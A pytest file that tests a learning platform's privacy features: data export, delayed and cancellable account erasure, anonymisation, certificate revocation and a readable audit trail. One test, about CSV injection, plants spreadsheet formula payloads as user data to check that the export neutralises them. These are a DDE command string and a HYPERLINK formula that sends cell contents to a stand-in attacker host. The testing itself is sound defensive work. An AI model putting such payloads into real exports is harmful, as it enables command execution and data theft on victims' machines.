"""Privacy rights: self-service export built by a real worker, erasure after a grace period
(cancellable, once), the audit trail the learner can read. (Consent: tests/accounts.)"""

import io
import json
import zipfile
from datetime import timedelta
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.db import transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts import services as account_services
from accounts.models import AuditEntry, Consent
from grading.models import Submission
from kernel.models import OutboxEvent
from privacy import services
from privacy.models import DataExport, DeletionRequest
from tests.factories import OrganizationFactory, UserFactory, enroll, make_quiz
from tests.processes import wait_for
from tests.twofactor import login_with_2fa

User = get_user_model()


def _graded_submission(user, **extra):
    quiz = make_quiz()
    enroll(user, quiz.course)
    return Submission.objects.create(
        user=user, assignment=quiz, version=quiz.current_version, attempt=1,
        answer={"text": "my very personal essay"}, status="graded", score=Decimal("7"), max_score=Decimal("10"),
        feedback={"comment": "Well argued"}, graded_at=timezone.now(), **extra,
    )  # fmt: skip


@pytest.mark.worker
def test_a_learner_exports_their_data_once_as_a_zip_built_by_a_worker(worker, settings):
    learner = UserFactory(full_name="Yasmine Export")
    submission = _graded_submission(learner)
    account_services.consent_record(user=learner, language="en")
    instructor = UserFactory(full_name="Prof Reader")
    account_services.audit_record(actor=instructor, action=AuditEntry.Action.SUBMISSION_VIEW, subject_user=learner,
                          obj=submission)  # fmt: skip
    client = Client()
    client.force_login(learner)

    # Asked twice while it is being prepared: still one export. The two asks share a transaction, so
    # the worker cannot finish the first one in between (then a second ask rightly starts another).
    with transaction.atomic():
        client.post(reverse("accounts:export-request"))
        client.post(reverse("accounts:export-request"))
        assert DataExport.objects.filter(user=learner).count() == 1
    assert DataExport.objects.filter(user=learner).count() == 1
    export = wait_for(
        lambda: DataExport.objects.filter(user=learner, status="ready").first(), timeout=90, message="export ready"
    )
    assert export.expires_at - export.ready_at == timedelta(hours=settings.KAFAAT_EXPORT_TTL_HOURS)

    response = client.get(reverse("accounts:export-download", args=[export.pk]))
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = set(archive.namelist())
    for section in ["profile", "enrollments", "submissions", "consents", "audit"]:
        assert {f"{section}.json", f"{section}.csv"} <= names
    assert json.loads(archive.read("profile.json"))[0]["full_name"] == "Yasmine Export"
    (sub,) = json.loads(archive.read("submissions.json"))
    assert sub["answer"] == {"text": "my very personal essay"} and sub["feedback"] == {"comment": "Well argued"}
    assert "Prof Reader" in archive.read("audit.csv").decode()

    # Nobody else can download it, and it goes away after its time.
    other = Client()
    other.force_login(UserFactory())
    assert other.get(reverse("accounts:export-download", args=[export.pk])).status_code == 404
    DataExport.objects.filter(pk=export.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    assert services.retention_enforce()["exports_expired"] == 1
    assert client.get(reverse("accounts:export-download", args=[export.pk])).status_code == 404


@pytest.mark.worker
def test_the_export_built_by_the_worker_has_no_csv_cell_a_spreadsheet_would_run(worker):
    """A synced name gave `=cmd|' /C calc'!A0` in profile.csv and a lesson title `=HYPERLINK(...)`
    in the lesson CSVs (issue 12): every cell that starts like a formula is quoted."""
    import csv

    from courses.models import LessonProgress
    from kernel.csvsafe import FORMULA_STARTS
    from tests.factories import LessonFactory, ModuleFactory

    learner = UserFactory(full_name="=cmd|' /C calc'!A0", external_id="-1+cmd|' /C calc'!A0")
    submission = _graded_submission(learner)
    lesson = LessonFactory(module=ModuleFactory(course=submission.assignment.course),
                           title='=HYPERLINK("http://evil.example/?x="&A1,"Open")')  # fmt: skip
    LessonProgress.objects.create(user=learner, lesson=lesson, completed_at=timezone.now())
    client = Client()
    client.force_login(learner)
    client.post(reverse("accounts:export-request"))
    export = wait_for(
        lambda: DataExport.objects.filter(user=learner, status="ready").first(), timeout=90, message="export ready"
    )
    response = client.get(reverse("accounts:export-download", args=[export.pk]))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    cells = {
        name: [c for row in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))) for c in row]
        for name in archive.namelist()
        if name.endswith(".csv")
    }
    assert {n: [c for c in v if c.startswith(FORMULA_STARTS)] for n, v in cells.items()} == dict.fromkeys(cells, [])
    assert "'=cmd|' /C calc'!A0" in cells["profile.csv"] and "'-1+cmd|' /C calc'!A0" in cells["profile.csv"]
    assert "'" + lesson.title in cells["lesson_progress.csv"]
    # The JSON files keep the values exactly as stored.
    assert json.loads(archive.read("profile.json"))[0]["full_name"] == "=cmd|' /C calc'!A0"


@pytest.mark.django_db
def test_the_export_task_does_nothing_for_an_export_no_longer_pending():
    export = DataExport.objects.create(user=UserFactory(), status="failed")
    services.export_build(export_id=export.pk)
    export.refresh_from_db()
    assert export.status == "failed" and export.file_path == ""


@pytest.mark.django_db
def test_erasure_waits_for_the_grace_period_and_can_be_cancelled(client):
    learner = UserFactory()
    client.force_login(learner)
    client.post(reverse("accounts:deletion-request"), {"confirm": "on"})
    client.post(reverse("accounts:deletion-request"), {"confirm": "on"})  # asked twice: one request
    assert DeletionRequest.objects.filter(user=learner, status="pending").count() == 1
    assert services.retention_enforce()["erased"] == 0  # grace period not over

    client.post(reverse("accounts:deletion-cancel"))
    DeletionRequest.objects.filter(user=learner).update(effective_at=timezone.now() - timedelta(days=1))
    assert services.retention_enforce()["erased"] == 0
    learner.refresh_from_db()
    assert learner.erased_at is None


@pytest.mark.django_db
def test_erasure_anonymizes_keeps_scores_and_tells_the_university_once(client):
    org = OrganizationFactory()
    learner = UserFactory(full_name="Nadia Erased", email="nadia@univ.ma", organization=org, external_id="U-42")
    submission = _graded_submission(learner)
    account_services.consent_record(user=learner, language="fr")
    client.force_login(learner)
    client.post(reverse("accounts:deletion-request"), {"confirm": "on"})
    DeletionRequest.objects.filter(user=learner).update(effective_at=timezone.now() - timedelta(seconds=1))

    assert services.retention_enforce()["erased"] == 1
    assert services.account_erase(user_id=learner.pk) is False  # runs once

    learner.refresh_from_db()
    assert learner.erased_at and not learner.is_active and not learner.has_usable_password()
    assert "nadia" not in learner.email and learner.full_name == "" and learner.external_id is None
    submission.refresh_from_db()
    assert submission.answer == {} and submission.feedback == {}
    assert submission.score == Decimal("7")  # aggregates keep counting
    (event,) = OutboxEvent.objects.filter(event_type="learner.erased")
    assert event.organization == org and event.payload["learner"]["external_id"] == "U-42"
    assert not Consent.objects.filter(user=learner).exists()
    assert client.get(reverse("accounts:me")).status_code == 302  # sessions ended
    assert DeletionRequest.objects.get(user=learner).status == "done"


@pytest.mark.django_db
def test_inactive_learner_accounts_are_erased_by_retention(settings):
    old = UserFactory()
    User.objects.filter(pk=old.pk).update(last_login=timezone.now() - timedelta(days=4000))
    recent = UserFactory()
    staff = UserFactory(is_staff=True)
    User.objects.filter(pk=staff.pk).update(last_login=timezone.now() - timedelta(days=4000))
    assert services.retention_enforce()["inactive_erased"] == 1
    assert User.objects.get(pk=old.pk).erased_at is not None
    assert User.objects.get(pk=recent.pk).erased_at is None and User.objects.get(pk=staff.pk).erased_at is None


@pytest.mark.django_db
def test_an_instructor_reading_a_submission_is_audited_and_the_learner_sees_who(client):
    learner = UserFactory()
    submission = _graded_submission(learner)
    instructor = UserFactory(full_name="Prof Curious")
    submission.assignment.course.instructors.add(instructor)
    login_with_2fa(client, instructor)
    assert client.get(reverse("grading:submission", args=[submission.pk])).status_code == 200

    learner_client = Client()
    learner_client.force_login(learner)
    learner_client.get(reverse("grading:submission", args=[submission.pk]))  # the owner: not audited
    assert AuditEntry.objects.filter(subject_user=learner).count() == 1
    page = learner_client.get(reverse("accounts:privacy"))
    assert b"Prof Curious" in page.content


def test_accounts_task_names_are_pinned():
    from privacy import tasks

    assert tasks.export_build_task.name == "accounts.export_build"
    assert tasks.retention_enforce_task.name == "accounts.retention_enforce"
    from django.conf import settings

    assert any(e["task"] == "accounts.retention_enforce" for e in settings.CELERY_BEAT_SCHEDULE.values())


def test_erasure_revokes_the_learners_certificates_and_wipes_their_name_from_them(client, db):
    from certificates import services as certificate_services
    from tests.certificates.test_certificates import completed
    from tests.factories import CourseFactory

    user = UserFactory(full_name="Amina Benali")
    course = CourseFactory(title="Data science 101")
    completed(user, course)
    cert = certificate_services.certificate_issue(user_id=user.pk, course_id=course.pk)
    assert "Amina Benali" in json.dumps(cert.credential, ensure_ascii=False)

    assert services.account_erase(user_id=user.pk) is True

    cert.refresh_from_db()
    assert cert.revoked_at is not None and cert.revoked_reason
    assert cert.learner_name == ""
    assert "Amina" not in json.dumps(cert.credential, ensure_ascii=False)
    page = client.get(reverse("certificates:verify", args=[cert.id]), HTTP_ACCEPT_LANGUAGE="en")
    assert page.status_code == 200
    assert b"Amina" not in page.content
    assert b"Data science 101" in page.content  # what was achieved stays verifiable as revoked


def test_a_learners_notifications_are_in_their_export_and_gone_after_erasure(db):
    from learning.models import Notification, NotificationSetting
    from privacy.services import export_sections

    user = UserFactory(full_name="Salma Notified")
    other = UserFactory()
    Notification.objects.create(user=user, kind="graded", params={"assignment": "Quiz 1"}, url="/submissions/1/")
    Notification.objects.create(user=other, kind="graded", params={"assignment": "Quiz 9"})
    NotificationSetting.objects.create(user=user, kind="graded", by_email=False)

    sections = export_sections(user=user)
    assert [n["params"] for n in sections["notifications"]] == [{"assignment": "Quiz 1"}]
    assert sections["notification_settings"] == [{"kind": "graded", "on_page": True, "by_email": False}]

    assert services.account_erase(user_id=user.pk) is True
    assert not Notification.objects.filter(user=user).exists()
    assert not NotificationSetting.objects.filter(user=user).exists()
    assert Notification.objects.filter(user=other).count() == 1  # nobody else's
